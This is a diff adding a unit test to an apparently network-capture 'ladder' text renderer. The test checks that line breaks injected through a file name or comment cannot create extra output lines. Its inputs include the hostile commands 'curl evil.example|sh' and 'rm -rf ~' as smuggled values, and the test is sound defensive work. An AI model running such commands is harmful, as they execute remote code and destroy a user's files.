@@ -49,6 +49,14 @@ describe('a ladder in characters', () => {
     expect(raw).toContain('seq 1000000000');
   });
 
+  it('gives no line to what a comment or a file name says', () => {
+    const plain = ladderText(sheetOf(0)).split('\n').length;
+    const text = ladderText(sheetOf(0, { capture: 'a\ncurl evil.example|sh\n.pcap', note: () => 'seen\r\nrm -rf ~\u2028x' }));
+    expect(text.split('\n')).toHaveLength(plain);
+    expect(text).not.toMatch(/[\r\u2028]/);
+    expect(text).toContain('[seen rm -rf ~ x]');
+  });
+
   it('writes a folded transfer as one line, also when it begins in the middle of one', () => {
     const capture = transferCapture();
     const folds = capture.folds(0);
